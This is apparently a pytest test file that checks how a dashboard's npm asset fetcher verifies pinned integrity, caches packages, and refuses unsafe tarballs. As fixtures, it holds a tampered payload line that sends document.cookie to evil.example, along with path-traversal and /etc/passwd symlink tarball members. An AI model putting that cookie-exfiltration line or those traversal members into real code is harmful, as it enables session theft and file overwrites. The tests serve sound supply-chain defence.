"""hutch.web.assets: the dashboard's npm packages, fetched by the real npm from a registry (here
a scripted one on 127.0.0.1, which the test can make lie), checked against their pinned
integrity before unpacking, unpacked with nothing outside their directory, and cached."""

import io
import json
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from hutch.model.errors import Unavailable
from hutch.web import assets
from hutch.web.assets import Package
from tests.helpers import free_port
from tests.images.registry_server import ScriptedServer


def tarball(*members: tarfile.TarInfo | tuple[str, bytes]) -> bytes:
    """A gzipped tarball of files (name, data) and of members made as given."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for m in members:
            if isinstance(m, tarfile.TarInfo):
                tar.addfile(m)
            else:
                info = tarfile.TarInfo(m[0])
                info.size = len(m[1])
                tar.addfile(info, io.BytesIO(m[1]))
    return out.getvalue()


class Registry:
    """An npm registry: a package's document (packument) and its tarball, as npm asks."""

    def __init__(self) -> None:
        self.server = ScriptedServer()
        self.url = f"http://{self.server.host}/"

    def publish(self, name: str, version: str, data: bytes) -> None:
        """`data` served as name@version, with its own integrity in the document: the registry
        (or a mirror) that serves it vouches for it, as a compromised one would."""
        unscoped = name.rsplit("/", 1)[-1]
        path = f"/{name}/-/{unscoped}-{version}.tgz"
        document = {
            "name": name,
            "dist-tags": {"latest": version},
            "versions": {
                version: {
                    "name": name,
                    "version": version,
                    "dist": {
                        "tarball": self.url.rstrip("/") + path,
                        "integrity": assets.integrity_of(data),
                    },
                }
            },
        }
        body = json.dumps(document).encode()
        self.server.routes["/" + name.replace("/", "%2f")] = lambda _: (
            200, {"Content-Type": "application/json"}, body,
        )  # fmt: skip
        self.server.routes[path] = lambda _: (200, {}, data)

    def tarballs_served(self) -> list[str]:
        return [path for path, _ in self.server.requests if path.endswith(".tgz")]


@pytest.fixture
def registry(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Registry]:
    """The registry npm uses for the test, with an npm cache of the test's own."""
    registry = Registry()
    monkeypatch.setenv("NPM_CONFIG_REGISTRY", registry.url)
    monkeypatch.setenv("NPM_CONFIG_CACHE", str(tmp_path / "npm-cache"))
    monkeypatch.setenv("NPM_CONFIG_FETCH_RETRIES", "0")
    monkeypatch.setenv("NPM_CONFIG_UPDATE_NOTIFIER", "false")
    yield registry
    registry.server.stop()


LIB = tarball(
    ("package/package.json", b'{"name": "demo-lib", "version": "1.0.0"}'),
    ("package/dist/lib.min.js", b"window.lib = 1;\n"),
)
TERM = tarball(
    ("package/package.json", b'{"name": "@demo/term", "version": "2.0.0"}'),
    ("package/lib/term.js", b"window.term = 1;\n"),
    ("package/css/term.css", b".term {}\n"),
)
PINNED = (
    Package("lib", "demo-lib", "1.0.0", assets.integrity_of(LIB), ("dist/lib.min.js",)),
    Package(
        "term", "@demo/term", "2.0.0", assets.integrity_of(TERM), ("lib/term.js", "css/term.css")
    ),
)


def test_pinned_packages_are_unpacked_once_and_fetched_again_only_when_broken(
    registry: Registry, tmp_path: Path
) -> None:
    registry.publish("demo-lib", "1.0.0", LIB)
    registry.publish("@demo/term", "2.0.0", TERM)
    cache = tmp_path / "cache"

    vendor = assets.fetch(cache, packages=PINNED)

    assert vendor == cache / assets.VENDOR_DIR
    assert (vendor / "lib/dist/lib.min.js").read_bytes() == b"window.lib = 1;\n"
    assert (vendor / "term/css/term.css").read_bytes() == b".term {}\n"
    assert (vendor / "term/package.json").is_file()  # the package/ prefix is gone
    assert sorted(p.name for p in vendor.iterdir()) == ["lib", "term"]  # no staging left
    assert len(registry.tarballs_served()) == 2

    assets.fetch(cache, packages=PINNED)  # present and from the pinned integrity
    assert len(registry.tarballs_served()) == 2

    (vendor / "term/lib/term.js").unlink()
    assets.fetch(cache, packages=PINNED)  # only the broken one again
    assert registry.tarballs_served()[2:] == ["/@demo/term/-/term-2.0.0.tgz"]
    assert (vendor / "term/lib/term.js").is_file()


def test_a_tarball_that_is_not_the_pinned_one_is_refused_before_unpacking(
    registry: Registry, tmp_path: Path
) -> None:
    cache = tmp_path / "cache"
    registry.publish("demo-lib", "1.0.0", LIB)
    assets.fetch(cache, packages=PINNED[:1])
    # Version 1.0.1 is pinned, but the registry serves other bytes than the ones pinned (and
    # vouches for them): the cache keeps 1.0.0 as it was.
    real = tarball(("package/dist/lib.min.js", b"window.lib = 2;\n"))
    tampered = tarball(("package/dist/lib.min.js", b"fetch('//evil.example/' + document.cookie)"))
    registry.publish("demo-lib", "1.0.1", tampered)
    pinned = Package("lib", "demo-lib", "1.0.1", assets.integrity_of(real), ("dist/lib.min.js",))

    with pytest.raises(Unavailable, match=r"demo-lib@1\.0\.1 is not the pinned one") as refused:
        assets.fetch(cache, packages=[pinned])

    assert assets.integrity_of(tampered) in refused.value.message
    vendor = cache / assets.VENDOR_DIR
    assert (vendor / "lib/dist/lib.min.js").read_bytes() == b"window.lib = 1;\n"
    assert (vendor / "lib" / assets.MARKER).read_text().strip() == PINNED[0].integrity
    assert sorted(p.name for p in vendor.iterdir()) == ["lib"]


def _link(name: str, kind: bytes, target: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


@pytest.mark.parametrize(
    ("member", "refusal"),
    [
        (("package/../../escaped.js", b"x"), "outside its directory"),
        (("package/dist/../../../escaped.js", b"x"), "outside its directory"),
        (_link("package/dist/passwd", tarfile.SYMTYPE, "/etc/passwd"), "not a plain file"),
        (_link("package/dist/hard", tarfile.LNKTYPE, "package/dist/lib.min.js"), "not a plain"),
    ],
    ids=["dotdot", "dotdot-deeper", "symlink", "hardlink"],
)
def test_a_pinned_tarball_with_a_member_that_could_leave_its_directory_is_refused(
    registry: Registry, tmp_path: Path, member: tarfile.TarInfo | tuple[str, bytes], refusal: str
) -> None:
    """Even with the pinned integrity (a pin taken of a bad tarball): nothing is unpacked."""
    data = tarball(("package/dist/lib.min.js", b"1"), member)
    registry.publish("demo-lib", "1.0.0", data)
    pinned = Package("lib", "demo-lib", "1.0.0", assets.integrity_of(data), ("dist/lib.min.js",))
    cache = tmp_path / "a" / "b" / "cache"

    with pytest.raises(Unavailable, match=refusal):
        assets.fetch(cache, packages=[pinned])

    assert list((cache / assets.VENDOR_DIR).iterdir()) == []
    assert not list(tmp_path.rglob("escaped.js"))


def test_npm_failing_or_missing_is_a_clear_refusal(
    registry: Registry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(Unavailable, match=r"npm could not fetch the dashboard's demo-lib@1\.0\.0"):
        assets.fetch(tmp_path, packages=PINNED[:1])  # not published: 404

    monkeypatch.setenv("NPM_CONFIG_REGISTRY", f"http://127.0.0.1:{free_port()}/")
    with pytest.raises(Unavailable, match="ECONNREFUSED"):
        assets.fetch(tmp_path, packages=PINNED[:1])

    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(Unavailable, match="npm is not installed"):
        assets.fetch(tmp_path, packages=PINNED[:1])
